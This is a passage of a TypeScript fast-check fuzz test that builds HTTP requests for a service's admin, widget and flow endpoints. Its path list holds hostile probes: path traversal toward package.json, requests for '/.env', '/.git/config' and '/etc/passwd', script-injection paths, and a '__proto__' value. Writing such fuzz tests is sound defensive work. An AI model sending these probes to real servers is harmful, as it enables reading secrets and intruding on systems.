        createCustomer: fc.constantFrom<unknown>(true, 1, 'true', false, null),
        flow: fc.oneof(hostileString, fc.constantFrom('cloudsuite', 'nitro', '__proto__')),
      },
      { requiredKeys: [] },
    )
    .map((b) => ({
      body: JSON.stringify(b),
      headers: { 'content-type': 'application/json' },
    }));
  const body = fc.oneof(approval, bodyWithHeaders);
  return fc
    .tuple(
      fc.oneof(
        { weight: 4, arbitrary: fc.constantFrom('GET', 'POST') },
        { weight: 1, arbitrary: fc.constantFrom(...METHODS) },
      ),
      path,
      authorization,
      commonHeaders,
      body,
    )
    .map(([method, p, auth, headers, b]) => ({
      kind: auth === `Bearer ${token}` ? 'admin:token' : 'admin:no-token',
      method,
      path: p,
      headers: merge(headers, { authorization: auth }, b.headers),
      body: method === 'GET' || method === 'HEAD' ? undefined : b.body,
    }));
};

const SERVER_PATHS = [
  '/',
  '/healthz',
  '/readyz',
  '/widget/org-signup.js',
  '/widget',
  '/widget/',
  '/Widget/org-signup.js',
  '/widget/org-signup.js%00.html',
  '/widget/../server/app.ts',
  '/widget/..%2f..%2fpackage.json',
  '/widget/%2e%2e/%2e%2e/package.json',
  '/widget/....//....//package.json',
  '/widget/%E0%A4%A',
  '/demo.js',
  '/demo.css',
  '/demo.js/..',
  '/../package.json',
  '/%2e%2e/package.json',
  '/..%5c..%5cpackage.json',
  '/.env',
  '/.git/config',
  '/server/app.ts',
  '/server/config/demo.json',
  '/node_modules/express/package.json',
  '/package.json',
  '/etc/passwd',
  '/v1',
  '/v1/',
  '/v2/flows/nitro',
  '/v1/flows',
  '/v1/flows/',
  '/v1/registrations',
  '/v1/registrations/',
  '//v1/flows/nitro',
  '/V1/FLOWS/NITRO',
  '/v1/flows/nitro/../../healthz',
  '/v1//flows/nitro',
  '/healthz/',
  '/HEALTHZ',
  '/readyz?full=1',
  '/%ZZ',
  '/x%',
  '/<script>alert(1)</script>',
  "/%3Cscript%3Ealert('fuzz')%3C/script%3E",
  '/widget?<script>alert(1)</script>',
  '/favicon.ico',
  '/robots.txt',
  '/index.html',
];

export const serverRequest: fc.Arbitrary<Spec> = fc
  .tuple(
    fc.oneof(
      { weight: 3, arbitrary: fc.constantFrom('GET', 'HEAD') },
      { weight: 1, arbitrary: fc.constantFrom(...METHODS) },
    ),
    fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(...SERVER_PATHS).chain(withQuery) },
      {
        weight: 2,
        arbitrary: fc
          .array(hostileSegment, { minLength: 1, maxLength: 4 })
          .map((segments) => `/${segments.join('/')}`),
      },
    ),
    commonHeaders,
    fc.option(bodyWithHeaders, { freq: 3, nil: undefined }),
  )
  .map(([method, path, headers, body]) => ({
    kind: 'server',
    method,
    path,
    headers: merge(headers, body?.headers),
    body: method === 'GET' || method === 'HEAD' ? undefined : body?.body,
  }));

export const batchOf = (request: fc.Arbitrary<Spec>) =>
  fc.array(request, { minLength: BATCH, maxLength: BATCH });
